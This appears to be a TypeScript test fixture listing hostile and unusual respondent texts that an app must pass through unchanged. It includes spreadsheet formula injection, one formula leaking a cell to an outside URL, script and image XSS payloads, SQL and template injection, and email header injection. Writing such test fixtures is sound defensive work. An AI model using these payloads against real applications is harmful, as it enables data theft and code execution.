const long = 'Donaudampfschifffahrtsgesellschaft'

/**
 * Texts that a respondent may write and that must come out of every place as they went in, doing nothing: in answers,
 * names, notes and mail, on screens and in files. What breaks something somewhere is added here.
 */
export const hostileTexts = {
  formula: '=cmd|"/c calc"!A1',
  formulaOfLink: '=HYPERLINK("https://example.com/?leak="&A1,"Click")',
  formulaOfPlus: '+1+1',
  formulaOfMinus: '-2+3',
  formulaOfAt: '@SUM(1,2)',
  formulaAfterTab: '\t=1+1',
  formulaAfterReturn: '\r=1+1',
  formulaFullWidth: '＝1+1',
  apostrophe: "'=1+1",
  number: '-5',
  script: '<script>document.title = "taken"</script>',
  image: '<img src=x onerror="document.title=\'taken\'">',
  markup: '</td></tr></table><h1>Not a heading</h1>&lt;&amp;&#39;',
  link: '[click](javascript:alert(1)) javascript:alert(1)',
  sql: "'; drop table interview; -- \\",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a respondent wrote it
  template: '{{constructor.constructor("return 1")()}} ${1 + 1} {count} $t(key) %s',
  csv: 'a,"b";c\td\r\ne\nf',
  header: 'Hello\r\nBcc: all@example.com',
  rightToLeft: 'שלום \u202Eevil\u202C مرحبا',
  isolates: '\u2066left\u2069 \u2067right\u2069 \u200F',
  zeroWidth: 'zero\u200Bwidth\u200C\u200D\u2060\uFEFFjoin',
  emoji: '👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 🇫🇮 1️⃣',
  combining: 'Z\u0351\u036B\u0343\u036A\u0302a\u0330\u0303\u0315l\u0321\u0353\u0317g\u034A\u0363o',
  nfd: 'A\u030Angstro\u0308m',
  nordic: 'Åäö ÅÄÖ å',
  longWord: long.repeat(20),
  manyLines: '1\n2\n3\n4\n5\n6\n7\n8\n9\n10',
  control: 'bell\u0007 back\u0008 escape\u001B[31m unit\u001F',
  private: '\uE000\uE001\uE002 \uFFFD \uFFFE',
  nullWord: 'null',
  noneWord: '~none',
  empty: '\u00A0\u3000',
} as const satisfies Record<string, string>
